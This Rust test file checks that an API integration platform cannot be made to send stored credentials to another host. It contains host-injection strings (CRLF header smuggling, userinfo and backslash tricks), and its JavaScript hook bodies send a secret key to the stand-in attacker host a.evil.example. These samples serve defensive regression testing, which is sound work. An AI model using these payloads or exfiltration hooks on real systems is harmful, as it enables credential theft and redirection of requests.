//! Attacks 1 to 4: credentials led to another host.

use serde_json::{Value, json};

use super::{CREDENTIAL, instance, staged, victim};

#[tokio::test]
async fn attack_1_a_host_cannot_be_injected_through_a_template() {
    let element = victim(json!({"configuration": [
        {"key": "base.url", "defaultValue": "https://{subdomain}.victim.example/v1"},
        {"key": "subdomain"}, {"key": "secret.key", "type": "PASSWORD"}],
        "resources": [{"method": "GET", "path": "/things/{id}", "vendorPath": "{id}"},
            {"method": "GET", "path": "/at/{host}", "vendorPath": "https://{host}/x"}]}));
    let (app, vendor, collector) = staged(element).await;
    for label in [
        "a.evil.example/#",
        "a.evil.example/",
        "a.evil.example?",
        "a.evil.example\\",
        "a@a.evil.example",
        "a:b@a.evil.example",
        "a.evil.example:443",
        "a.evil.example%2f",
        "a\u{2044}evil",
        "a b",
        "a\r\nHost: a.evil.example",
        "..",
        "{x}",
    ] {
        let body =
            json!({"name": "I", "configuration": {"subdomain": label, "secret.key": CREDENTIAL}});
        let message = app
            .refused("POST", "/elements/victim/instances", body, 400)
            .await;
        assert!(!message.contains(CREDENTIAL), "{label}: {message}");
    }
    let (_, token) = instance(&app, json!({"subdomain": "mine"})).await;
    for id in [
        "%2F%2Fa.evil.example%2Fx",
        "https:%2F%2Fa.evil.example%2Fx",
        "@a.evil.example",
        ".a.evil.example",
        "%5C%5Ca.evil.example",
    ] {
        let path = format!("/things/{id}");
        app.resource("GET", &path, &token, Value::Null).await;
        app.resource(
            "GET",
            &format!("/at/a.evil.example{id}"),
            &token,
            Value::Null,
        )
        .await;
    }
    app.resource("GET", "/at/a.evil.example", &token, Value::Null)
        .await
        .error(403);
    assert!(collector.take().is_empty(), "nothing reached the collector");
    for asked in vendor.take() {
        assert_eq!(asked.host, "mine.victim.example");
    }
}

#[tokio::test]
async fn attack_2_addresses_do_not_change_under_masked_secrets() {
    let oauth = json!({"authentication": {"type": "oauth2"}, "configuration": [
        {"key": "base.url", "defaultValue": "https://api.victim.example"},
        {"key": "oauth.token.url", "defaultValue": "https://api.victim.example/oauth/token"},
        {"key": "oauth.api.key"}, {"key": "oauth.api.secret", "type": "PASSWORD"}, {"key": "oauth.callback.url"}]});
    let (app, vendor, collector) = staged(victim(oauth)).await;
    let body = json!({"name": "I", "providerData": {"code": "c"}, "configuration": {"oauth.api.key": "k",
        "oauth.api.secret": CREDENTIAL, "oauth.callback.url": "https://app.example/cb"}});
    let made = app.ok("POST", "/elements/victim/instances", body).await;
    let (id, token) = (&made["id"], made["token"].as_str().unwrap());
    vendor.take();
    for key in [
        "base.url",
        "oauth.token.url",
        "oauth.token.refresh_url",
        "oauth.token.revoke_url",
    ] {
        for secret in [Value::Null, json!("********")] {
            let mut configuration = json!({key: "https://a.evil.example/oauth/token"});
            if !secret.is_null() {
                configuration["oauth.api.secret"] = secret;
            }
            let body = json!({"configuration": configuration});
            for method in ["PUT", "PATCH"] {
                let path = format!("/instances/{id}");
                app.refused(method, &path, body.clone(), 400).await;
            }
        }
    }
    let entries = app
        .ok(
            "GET",
            &format!("/instances/{id}/configuration"),
            Value::Null,
        )
        .await;
    let base = entries
        .as_array()
        .unwrap()
        .iter()
        .find(|entry| entry["key"] == "base.url")
        .unwrap();
    let path = format!("/instances/{id}/configuration/{}", base["id"]);
    let body = json!({"key": "base.url", "propertyValue": "https://a.evil.example"});
    app.refused("PATCH", &path, body, 400).await;
    // An hour later the grant is renewed where it always was.
    app.clock.advance(2 * 3600 * 1000);
    app.resource("GET", "/things", token, Value::Null)
        .await
        .expect(200);
    assert!(
        vendor
            .take()
            .iter()
            .any(|asked| asked.path == "/oauth/token")
    );
    assert!(collector.take().is_empty());
}

#[tokio::test]
async fn attack_3_an_edited_element_takes_no_running_instance_along() {
    let (app, vendor, collector) = staged(victim(json!({}))).await;
    let (id, token) = instance(&app, json!({})).await;
    let resource =
        json!({"method": "GET", "path": "/stolen", "vendorPath": "https://a.evil.example/x"});
    app.ok("POST", "/elements/victim/resources", resource).await;
    let entry =
        json!({"key": "base.url", "name": "Base", "defaultValue": "https://a.evil.example"});
    app.ok("PUT", "/elements/victim/configuration/base.url", entry)
        .await;
    app.resource("GET", "/stolen", &token, Value::Null)
        .await
        .error(400);
    app.resource("GET", "/things", &token, Value::Null)
        .await
        .expect(200);
    let path = format!("/elements/victim/instances/{id}/version");
    app.refused("PUT", &path, Value::Null, 400).await;
    assert_eq!(vendor.take().len(), 1);
    assert!(collector.take().is_empty());
}

#[tokio::test]
async fn attack_4_a_hook_sends_no_credential_elsewhere() {
    let hook = |body: &str| json!([{"type": "preRequest", "mimeType": "application/javascript", "body": body}]);
    let thief = |name: &str, body: &str| json!({"method": "GET", "path": format!("/{name}"), "vendorPath": "/x", "hooks": hook(body)});
    let send = "const https = require('https'); const r = https.request({host: 'a.evil.example', path: '/' + configuration['secret.key']}, \
        () => done()); r.on('error', () => done()); r.end();";
    let element = victim(json!({"resources": [
        thief("path", "done({request_vendor_path: 'https://a.evil.example/?k=' + configuration['secret.key']})"),
        thief("userinfo", "done({request_vendor_path: 'https://api.victim.example@a.evil.example/'})"),
        thief("backslash", "done({request_vendor_path: 'https://a.evil.example\\\\@api.victim.example/'})"),
        thief("request", send),
        thief("axios", "const axios = require('axios'); axios.get('https://a.evil.example/' + configuration['secret.key']).then(() => done(), () => done())"),
        thief("configuration", "done({configuration: {'base.url': 'https://a.evil.example'}})"),
        {"method": "GET", "path": "/rebase", "vendorPath": "/x", "hooks": [{"type": "postRequest",
            "mimeType": "application/javascript", "body": "done({configuration: {'base.url': 'https://a.evil.example'}})"}]},
        {"method": "GET", "path": "/next", "vendorPath": "/x"},
        {"method": "GET", "path": "/mapped", "vendorPath": "/x", "parameters": [
            {"type": "configuration", "name": "base.url", "vendorType": "body", "vendorName": "[0].id", "source": "response"}]}]}));
    let (app, _, collector) = staged(element).await;
    let (_, token) = instance(&app, json!({})).await;
    for name in [
        "path",
        "userinfo",
        "backslash",
        "request",
        "axios",
        "configuration",
        "rebase",
        "mapped",
        "next",
    ] {
        let reply = app
            .resource("GET", &format!("/{name}"), &token, Value::Null)
            .await;
        assert!(
            !reply.text().contains(CREDENTIAL),
            "{name}: {}",
            reply.text()
        );
        assert!(reply.status != 500, "{name}: {}", reply.text());
    }
    let asked = collector.take();
    assert!(asked.is_empty(), "{asked:?}");
}
